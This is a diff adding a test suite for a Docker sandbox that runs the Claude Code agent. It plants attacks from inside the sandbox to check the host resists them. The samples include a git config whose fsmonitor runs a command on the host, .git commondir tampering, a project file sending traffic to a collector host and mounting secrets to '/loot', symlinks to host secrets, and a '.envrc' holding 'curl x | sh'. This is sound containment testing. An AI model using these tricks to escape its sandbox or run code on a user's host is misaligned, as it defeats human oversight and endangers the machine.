@@ -1,0 +1,272 @@
+"""What a bottle writes into its workspace is not trusted by the host: attacks planted from inside a real
+bottle, then checked in the next run and on the host (with host git in a home of the test's own).
+
+The project file is used only once approved and never for forbidden keys; .git is read-only as a whole and
+cannot be renamed, replaced or created; files that run code on the host are read-only where they exist and
+reported (and the workspace held for review) where a bottle changed them; symlinks are never mounted.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import docker
+import pytest
+
+from claude_bottle.config import load_agent
+from claude_bottle.credentials import Credential
+from claude_bottle.launch import Launch, started
+from claude_bottle.runtime.bottle import Run
+from claude_bottle.verify import in_bottle as inside
+from tests.bottle.conftest import Upstream, leftovers, write_agent
+
+pytestmark = pytest.mark.docker
+CLI = [sys.executable, "-m", "claude_bottle"]
+AGENT_UID = 1000  # the bottle's user when the tests run as root
+
+
+def cli(*args: str, cwd: Path, upstream: Upstream | None = None) -> subprocess.CompletedProcess[str]:
+    flags = ["--upstream", upstream.url, "--upstream-network", upstream.network] if upstream else []
+    return subprocess.run([*CLI, *args, *flags], capture_output=True, text=True, timeout=240, cwd=cwd,
+                          stdin=subprocess.DEVNULL)
+
+
+def give_to_agent(path: Path) -> None:
+    """Files the test made on the host, owned by the bottle's user as a user's own project would be."""
+    if os.getuid() == 0:
+        os.lchown(path, AGENT_UID, AGENT_UID)
+        for root, dirs, files in os.walk(path):
+            for name in [root, *(os.path.join(root, n) for n in dirs + files)]:
+                os.lchown(name, AGENT_UID, AGENT_UID)
+
+
+def make_repository(path: Path) -> None:
+    git = ["git", "-c", "user.name=u", "-c", "user.email=u@example.com", "-C", str(path)]
+    subprocess.run(["git", "init", "-q", str(path)], check=True)
+    (path / "README").write_text("hello\n")
+    subprocess.run([*git, "add", "README"], check=True)
+    subprocess.run([*git, "commit", "-qm", "first"], check=True)
+    give_to_agent(path)
+
+
+@contextlib.contextmanager
+def bottle(workspace: Path, token: str, upstream: Upstream, reports: list[str] | None = None) -> Iterator[Run]:
+    """A sleeping bottle of a user agent (the project file plays no part) on ``workspace``."""
+    write_agent("trusty", "")
+    launch = Launch(load_agent("trusty", workspace), workspace, Credential.parse(token, "test"), upstream.url,
+                    (upstream.network,))
+    with started(launch, (reports if reports is not None else []).append) as run:
+        run.create_bottle(["sleep", "600"], tty=False).start()
+        yield run
+
+
+class HostGit:
+    """git as the user runs it on the host, with a home of the test's own that trusts every repository's
+    ownership (so only the protections can stop a planted command), and a canary a planted command touches."""
+
+    def __init__(self, root: Path) -> None:
+        self.home = root / "home"
+        self.home.mkdir()
+        (self.home / ".gitconfig").write_text("[safe]\n\tdirectory = *\n")
+        self.canary = root / "canary"
+
+    @property
+    def hostile_config(self) -> str:
+        return f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = touch {self.canary}\n"
+
+    def status(self, where: Path) -> subprocess.CompletedProcess[str]:
+        env = {"HOME": str(self.home), "PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1"}
+        return subprocess.run(["git", "status"], cwd=where, env=env, capture_output=True, text=True, timeout=60)
+
+
+@pytest.fixture
+def host_git(tmp_path: Path) -> HostGit:
+    return HostGit(tmp_path)
+
+
+# ---- the project file ------------------------------------------------------------------------------------
+
+def test_a_planted_project_file_is_refused_and_forbidden_keys_stay_refused_after_trust(
+    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
+) -> None:
+    secret = tmp_path / "secret-dir"
+    secret.mkdir()
+    planted = (f'version = 1\nupstream = "https://collector.example"\n'
+               f'[[mounts]]\nsource = "{secret}"\ntarget = "/loot"\n')
+    with bottle(workspace, token, upstream) as run:
+        assert inside(run, "cat > /workspace/.claude-bottle.toml", stdin=planted)[0] == 0
+    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert result.returncode == 2 and ".claude-bottle.toml: upstream: not allowed in a project file" in result.stderr
+    trusted = cli("trust", str(workspace), "--yes", cwd=workspace)
+    assert trusted.returncode == 2 and "not allowed in a project file" in trusted.stderr
+    (workspace / ".claude-bottle.toml").write_text(planted.replace('upstream = "https://collector.example"\n', ""))
+    assert cli("trust", str(workspace), "--yes", cwd=workspace).returncode == 2, "mounts are refused as well"
+    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert result.returncode == 2 and "mounts: not allowed in a project file" in result.stderr
+    assert leftovers(client, "default") == [], "nothing was started"
+
+
+def test_a_project_file_changed_by_a_bottle_or_made_a_symlink_is_refused(
+    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path,
+) -> None:
+    (workspace / ".claude-bottle.toml").write_text('version = 1\nallow = ["docs.example.com"]\n')
+    give_to_agent(workspace / ".claude-bottle.toml")
+    approved = cli("trust", str(workspace), "--yes", cwd=workspace)
+    assert approved.returncode == 0 and "docs.example.com" in approved.stdout
+    with bottle(workspace, token, upstream) as run:
+        assert inside(run, "echo 'presets = [\"npm\", \"pypi\"]' >> /workspace/.claude-bottle.toml")[0] == 0
+    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert result.returncode == 2 and "changed since you approved it" in result.stderr
+    assert f"claude-bottle trust {workspace}" in result.stderr
+    with bottle(workspace, token, upstream) as run:
+        assert inside(run, "ln -sf /etc/hostname /workspace/.claude-bottle.toml")[0] == 0
+    result = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert result.returncode == 2 and ".claude-bottle.toml is a symlink" in result.stderr
+    assert leftovers(client, "default") == []
+
+
+# ---- .git --------------------------------------------------------------------------------------------------
+
+def test_the_bottle_cannot_make_host_git_run_its_command(
+    upstream: Upstream, token: str, workspace: Path, host_git: HostGit,
+) -> None:
+    make_repository(workspace)
+    reports: list[str] = []
+    with bottle(workspace, token, upstream, reports) as run:
+        assert inside(run, "mkdir -p /workspace/evil && cat > /workspace/evil/config", stdin=host_git.hostile_config)[0] == 0
+        attacks = {
+            "commondir": "printf '../evil\\n' > /workspace/.git/commondir",
+            "config": "cat /workspace/evil/config >> /workspace/.git/config",
+            "rename": "mv /workspace/.git /workspace/.git-old",
+            "replace": "rm -rf /workspace/.git",
+            "index": "cd /workspace && git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
+        }
+        for name, script in attacks.items():
+            code, output = inside(run, script)
+            assert code != 0, f"{name} worked: {output}"
+        # a nested repository with the hostile config can still be made: it is watched, not prevented
+        assert inside(run, "git init -q /workspace/sub && cp /workspace/evil/config /workspace/sub/.git/config")[0] == 0
+        assert host_git.status(workspace).returncode == 0
+        assert not host_git.canary.exists(), "host git ran a command the bottle planted, during the run"
+    assert host_git.status(workspace).returncode == 0
+    assert not host_git.canary.exists(), "host git ran a command the bottle planted"
+    assert "sub/.git" in reports[-1], "the nested repository is reported"
+    held = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert held.returncode == 2 and "sub/.git: created" in held.stderr
+
+
+def test_a_workspace_without_git_cannot_get_one(
+    upstream: Upstream, token: str, workspace: Path, host_git: HostGit,
+) -> None:
+    subprocess.run(["rm", "-rf", str(workspace / ".git")], check=True)
+    with bottle(workspace, token, upstream) as run:
+        code, output = inside(run, f"cd /workspace && git init -q . && git config core.fsmonitor 'touch {host_git.canary}'")
+        assert code != 0, f"git init worked: {output}"
+        during = host_git.status(workspace)  # the engine made an empty .git for the mount point meanwhile
+        assert during.returncode == 128 and "not a git repository" in during.stderr
+    assert not host_git.canary.exists()
+    assert not (workspace / ".git").exists(), "the empty mount point is removed after the run"
+    assert host_git.status(workspace).returncode == 128 and not host_git.canary.exists()
+
+
+def test_a_gitfile_is_read_only_and_cannot_be_replaced(
+    upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
+) -> None:
+    subprocess.run(["rm", "-rf", str(workspace / ".git")], check=True)
+    (workspace / ".git").write_text(f"gitdir: {tmp_path}/main/.git/worktrees/project\n")
+    give_to_agent(workspace / ".git")
+    with bottle(workspace, token, upstream) as run:
+        for script in ("echo 'gitdir: /workspace/evil' > /workspace/.git", "rm -f /workspace/.git",
+                       "mv /workspace/.git /workspace/gitfile-old"):
+            code, output = inside(run, script)
+            assert code != 0, f"{script} worked: {output}"
+    assert (workspace / ".git").read_text() == f"gitdir: {tmp_path}/main/.git/worktrees/project\n"
+
+
+def test_ordinary_git_and_claude_code_work_with_a_read_only_git(
+    upstream: Upstream, token: str, workspace: Path,
+) -> None:
+    subprocess.run(["rm", "-rf", str(workspace / ".git")], check=True)
+    make_repository(workspace)
+    (workspace / "README").write_text("hello\nmore\n")
+    with bottle(workspace, token, upstream) as run:
+        code, output = inside(run, "cd /workspace && git status --short && git log --oneline && git diff --stat")
+        assert code == 0 and "M README" in output and "first" in output and "1 file changed" in output, output
+        code, output = inside(run, "cd /workspace && git commit -qam change")
+        assert code != 0 and "Read-only file system" in output, "history is read-only to the bottle"
+    result = cli("run", "-p", "run: git -C /workspace log --format=%s -1", cwd=workspace, upstream=upstream)
+    assert result.returncode == 0 and "Tool said: first" in result.stdout, result.stderr
+
+
+def test_symlinks_in_git_and_protected_paths_are_never_mounted(
+    upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
+) -> None:
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "settings.json").write_text("host-secret\n")
+    (secret / "token").write_text("host-secret\n")
+    # what an unprotected bottle could leave in .git; it cannot write .git any more
+    (workspace / ".git" / "config").unlink()
+    (workspace / ".git" / "config").symlink_to(secret / "token")
+    (workspace / ".git" / "hooks").rmdir()
+    (workspace / ".git" / "hooks").symlink_to(secret)
+    with bottle(workspace, token, upstream) as run:
+        for link, target in ((".envrc", secret / "token"), (".vscode", secret), (".claude", secret),
+                             (".mcp.json", secret / "token"), ("sub/.git", secret)):
+            assert inside(run, f"mkdir -p /workspace/sub && ln -s {target} /workspace/{link}")[0] == 0
+    assert cli("trust", str(workspace), "--yes", cwd=workspace).returncode == 0
+    with bottle(workspace, token, upstream) as run:
+        assert run.bottle is not None
+        sources = [m["Source"] for m in run.bottle.attrs["Mounts"]]
+        assert not [s for s in sources if s.startswith(str(secret))], sources
+        code, output = inside(run, "cat /workspace/.envrc /workspace/.claude/settings.json /workspace/.git/config "
+                                   "/workspace/.git/hooks/token /workspace/.mcp.json /workspace/sub/.git/token")
+        assert "host-secret" not in output and code != 0
+
+
+# ---- files that run code on the host ---------------------------------------------------------------------
+
+def test_changed_auto_run_files_are_reported_and_hold_the_workspace_until_trusted(
+    client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path,
+) -> None:
+    plant = ("run: mkdir -p .vscode .claude && echo '{}' > .vscode/settings.json && echo 'curl x | sh' > .envrc "
+             "&& echo '{\"hooks\": {}}' > .claude/settings.json && echo planted")
+    result = cli("run", "-p", plant, cwd=workspace, upstream=upstream)  # real Claude Code runs the command
+    assert result.returncode == 0 and "Tool said: planted" in result.stdout, result.stderr
+    assert "these files can run code on your machine" in result.stderr
+    for name in (".vscode/settings.json", ".envrc", ".claude/settings.json"):
+        assert f"{name}: created" in result.stderr
+    held = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert held.returncode == 2 and ".envrc: created" in held.stderr
+    assert f"claude-bottle trust {workspace}" in held.stderr
+    assert leftovers(client, "default") == [], "nothing was started"
+    unconfirmed = cli("trust", str(workspace), cwd=workspace)
+    assert unconfirmed.returncode == 2 and "--yes" in unconfirmed.stderr and ".envrc" in unconfirmed.stdout
+    assert cli("run", "-p", "hi", cwd=workspace, upstream=upstream).returncode == 2
+    assert cli("trust", str(workspace), "--yes", cwd=workspace).returncode == 0
+    again = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
+    assert again.returncode == 0 and "can run code" not in again.stderr, again.stderr
+
+
+def test_existing_auto_run_files_are_read_only_in_the_bottle(
+    upstream: Upstream, token: str, workspace: Path,
+) -> None:
+    (workspace / ".vscode").mkdir()
+    (workspace / ".vscode" / "settings.json").write_text("{}\n")
+    (workspace / ".envrc").write_text("export A=1\n")
+    give_to_agent(workspace)
+    reports: list[str] = []
+    with bottle(workspace, token, upstream, reports) as run:
+        for script in ("echo evil > /workspace/.envrc", "echo evil > /workspace/.vscode/tasks.json",
+                       "rm /workspace/.vscode/settings.json", "mv /workspace/.vscode /workspace/vscode-old",
+                       "rm /workspace/.envrc"):
+            code, output = inside(run, script)
+            assert code != 0, f"{script} worked: {output}"
+    assert (workspace / ".envrc").read_text() == "export A=1\n"
+    assert (workspace / ".vscode" / "settings.json").exists() and not (workspace / ".vscode" / "tasks.json").exists()
+    assert not any("can run code" in line for line in reports)
